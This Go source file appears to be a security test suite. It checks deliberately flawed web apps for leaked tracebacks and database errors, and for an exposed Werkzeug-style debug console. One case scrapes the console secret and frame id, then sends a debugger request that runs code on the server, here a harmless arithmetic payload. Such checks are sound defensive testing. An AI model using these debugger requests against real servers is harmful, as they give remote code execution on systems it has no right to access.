package canon

import (
	"net/http"
	"net/url"
	"regexp"
	"strings"
)

// errorPages are answers that tell how the app is made.
func errorPages() []Attack {
	telling := regexp.MustCompile(`Traceback \(most recent call last\)|File "|\.py\b|sqlite3?\.|constraint failed|syntax error|notes\.title|no such table|unrecognized token|site-packages|/instance/`)
	tells := func(send func(s *Scene, client *http.Client) *http.Request) func(s *Scene) bool {
		return func(s *Scene) bool {
			client := s.LoggedIn(s.Join())
			answer := s.Send(client, send(s, client))
			found := telling.FindString(answer.Text)
			s.Logf("%d, %q in %.300s", answer.Status, found, answer.Text)
			if answer.Status == http.StatusForbidden {
				s.Fatal("refused before it could fail")
			}
			return found != ""
		}
	}
	get := func(path string) func(s *Scene) bool {
		return tells(func(s *Scene, _ *http.Client) *http.Request { return s.Request(http.MethodGet, path, "") })
	}
	return []Attack{
		{Name: "database error", Gain: "the names of tables and columns", Works: tells(func(s *Scene, _ *http.Client) *http.Request {
			return s.Request(http.MethodPost, "/api/notes", `{"title": null}`, "Content-Type", "application/json")
		})},
		{Name: "traceback in a page", App: "confessing", Gain: "the app's source, line by line", Works: get("/attachment")},
		{Name: "traceback for an API client", App: "confessing", Gain: "the app's source, line by line", Works: tells(func(s *Scene, _ *http.Client) *http.Request {
			return s.Request(http.MethodPost, "/api/notes", `{}`, "Content-Type", "application/json", "Accept", "application/json")
		})},
		{Name: "traceback in a 200", App: "confessing", Gain: "the statement that the input became a part of", Works: get("/api/count?tag=%27")},
	}
}

// debugOff are the doors that debug mode opens.
func debugOff() []Attack {
	secret := regexp.MustCompile(`SECRET = "(\w+)"`)
	frame := regexp.MustCompile(`id="frame-(\d+)"`)
	fail := func(s *Scene) Answer {
		return s.Send(s.LoggedIn(s.Join()), s.Request(http.MethodPost, "/api/notes", `{}`, "Content-Type", "application/json"))
	}
	return []Attack{
		{Name: "console", App: "debugged", Gain: "a Python prompt on the server", Works: func(s *Scene) bool {
			return secret.MatchString(s.Get(s.Client(), "/console").Text)
		}},
		{Name: "traceback", App: "debugged", Gain: "the app's source, and the key to the console", Works: func(s *Scene) bool {
			text := fail(s).Text
			return strings.Contains(text, "Traceback") || secret.MatchString(text)
		}},
		{Name: "code", App: "debugged", Gain: "any program runs on the server", Works: func(s *Scene) bool {
			text := fail(s).Text
			key, number := secret.FindStringSubmatch(text), frame.FindStringSubmatch(text)
			if key == nil || number == nil {
				// What another answer gave away would do as well; the console's own frame is 0.
				key, number = secret.FindStringSubmatch(s.Get(s.Client(), "/console").Text), []string{"", "0"}
			}
			if key == nil {
				key = []string{"", "guessed"}
			}
			q := url.Values{"__debugger__": {"yes"}, "cmd": {"7*191*3"}, "frm": {number[1]}, "s": {key[1]}}
			return strings.Contains(s.Get(s.Client(), "/?"+q.Encode()).Text, "4011")
		}},
		{Name: "debugger's files", App: "debugged", Gain: "that there is a debugger", Works: func(s *Scene) bool {
			answer := s.Get(s.Client(), "/?__debugger__=yes&cmd=resource&f=debugger.js")
			s.Logf("%d %.300s", answer.Status, answer.Text)
			return answer.Status == http.StatusOK
		}},
	}
}
